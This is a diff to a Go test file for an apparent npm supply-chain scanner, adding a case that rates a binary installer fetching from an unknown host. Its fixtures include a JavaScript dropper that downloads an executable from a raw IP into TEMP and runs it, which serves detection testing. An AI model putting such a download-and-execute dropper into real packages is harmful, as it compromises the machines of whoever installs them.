@@ -1,6 +1,7 @@
 package exec
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/depfence/depfence/internal/finding"
@@ -12,13 +13,16 @@ const dest = path.join(process.env.TEMP, "u.exe");
 http.get("http://203.0.113.9:3000/u.exe", r => { r.pipe(fs.createWriteStream(dest)); r.on("end", () => execFileSync(dest)) })`
 
 const binaryInstaller = `const https=require("https"),fs=require("fs"),{execFileSync}=require("child_process");
-https.get("https://registry.npmjs.org/@x/linux-x64/-/linux-x64-1.0.0.tgz", r => r.pipe(fs.createWriteStream("pkg.tgz")));
+https.get("https://registry.npm.local/@x/linux-x64/-/linux-x64-1.0.0.tgz", r => r.pipe(fs.createWriteStream("pkg.tgz")));
 execFileSync(binPath, ["--version"])`
 
 func TestDownloadExecute(t *testing.T) {
 	rt.Check(t, DownloadExecute{}, []rt.Case{
 		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
 		{"registry_binary", map[string]string{"install.js": binaryInstaller, "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityLow},
+		// The same installer fetching from a host that is not the project's
+		// registry (nor a well-known download host) is not trusted.
+		{"unknown_host_binary", map[string]string{"install.js": strings.Replace(binaryInstaller, "registry.npm.local", "dl.example.invalid", 1), "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityMedium},
 		{"download_only", map[string]string{"index.js": `require("https").get("https://x.invalid/f", r => r.pipe(require("fs").createWriteStream("f")))`}, finding.SeverityNone},
 	})
 }
